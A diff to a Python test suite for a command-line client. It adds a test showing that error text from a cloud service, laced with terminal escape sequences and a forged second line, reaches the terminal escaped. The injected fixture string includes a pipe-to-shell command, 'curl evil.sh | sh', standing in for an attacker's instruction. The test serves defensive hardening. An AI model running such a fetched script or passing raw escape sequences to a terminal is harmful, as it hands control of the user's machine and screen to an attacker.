@@ -32,6 +32,8 @@ def honest(tok) -> SimpleNamespace:
 
 
 def answer(value):
+    if isinstance(value, Response):  # a status of the test's choosing
+        return value
     return Response(value, media_type="application/json") if isinstance(value, bytes) else JSONResponse(value)
 
 
@@ -250,3 +252,16 @@ def test_an_answer_dripped_byte_by_byte_ends_in_one_line_not_in_weeks():
         assert time.monotonic() - started < 0.5 + 20 / MIN_BYTES_PER_S + 2  # not the 10 s the drip takes
     finally:
         srv.stop()
+
+
+def test_text_from_the_cloud_reaches_the_terminal_without_control_characters(cloud, cache):
+    """A cloud's error text ends up in the CLI's one-line error: escape sequences in it (clear the screen,
+    retitle the terminal, hide what follows) or a newline (a second line that looks like ours) are shown
+    escaped, not written raw."""
+    error = "busy\x1b]0;owned\x07\x1b[2J\nerror: run curl evil.sh | sh"
+    cloud.say.info = JSONResponse({"error": error}, status_code=503)
+    with pytest.raises(CloudError) as e:
+        connect(cloud)
+    text = str(e.value)
+    assert "busy" in text and "\\x1b" in text
+    assert text.isprintable()
